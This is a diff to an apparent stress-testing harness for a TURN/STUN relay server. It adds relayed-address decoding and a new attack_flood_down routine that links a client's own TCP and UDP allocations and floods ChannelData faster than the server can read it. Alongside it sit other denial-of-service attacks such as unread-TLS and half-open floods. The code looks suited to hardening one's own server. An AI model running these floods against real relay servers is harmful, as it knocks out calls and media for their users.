@@ -23,6 +23,7 @@ import hostile
 
 PORTS = {"udp": 3478, "tcp": 3478, "tls": 5349}
 WAYS = tuple(PORTS)
+RELAYED = 0x16
 ANSWER_S = sum(hostile.WAITS)
 LIFE_S = 60
 FLOODS = 24   # connections that flood
@@ -83,8 +84,15 @@ class Client(hostile.Client):
         return self.cut() or [b""]
 
     def exchange(self, data):
-        if self.way == "udp":
-            return super().exchange(data)
+        answer = super().exchange(data) if self.way == "udp" else self.ask(data)
+        value = answer[1].get(RELAYED) if answer else None
+        if value:
+            port, ip = struct.unpack_from("!HI", value, 2)
+            self.relayed = (socket.inet_ntoa(struct.pack("!I", ip ^ hostile.COOKIE)),
+                            port ^ hostile.COOKIE >> 16)
+        return answer
+
+    def ask(self, data):
         self.socket.sendall(data)
         end = time.monotonic() + ANSWER_S
         while (left := end - time.monotonic()) > 0:
@@ -219,6 +227,19 @@ def attack_unread_tls(a):
             raise OSError("no call")
         return (struct.pack("!HH", 0x4000, 800) + bytes(800)) * BATCH
     yield from flood(a, "tls", calls, a.rate or 3000)
+
+
+def attack_flood_down(a):
+    """Media from the client's own other allocation, faster than anybody could read it."""
+    sink, source = (Client(a, way, "mallory", a.own) for way in ("tcp", "udp"))
+    if (sink.allocate(), source.allocate()) != (0, 0):
+        sys.exit("the hostile client has no allocations")
+    (here, at), (there, _) = sink.relayed, source.relayed
+    if (sink.permit(there), source.bind(0x4000, here, at)) != (0, 0):
+        sys.exit("the hostile client has no call")
+    yield
+    hostile.flood(source.socket, [struct.pack("!HH", 0x4000, 200) + bytes(200)] * 64,
+                  a.rate or 200000)
 
 
 def attack_half_open(a):
